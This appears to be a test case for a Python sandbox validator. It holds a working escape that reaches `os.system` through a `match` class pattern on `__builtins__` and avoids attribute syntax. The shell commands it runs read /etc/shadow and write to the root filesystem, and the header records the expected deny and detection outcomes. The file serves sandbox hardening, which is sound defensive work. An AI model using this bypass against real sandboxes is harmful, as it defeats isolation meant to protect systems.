# row: B26
# attack: Attribute access through a `match` class pattern: `case object(__builtins__={'__import__': f})`
#   reads a function's `__builtins__` and the import function with no attribute syntax at all.
# v-on-finding: rule=attribute.dunder source=ast text=match pattern on attribute '__builtins__'
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B26
# limits: wall_time_s=5
SHELL = (
    "id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B26"
)


def probe():
    return None


system = None
try:
    match probe:
        case object(__builtins__={"__import__": importer}):
            system = importer("os").system
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
if system is None:
    print("system() not reached")
else:
    print("system() reached", flush=True)
    print(f"system() exit status {system(SHELL)}")
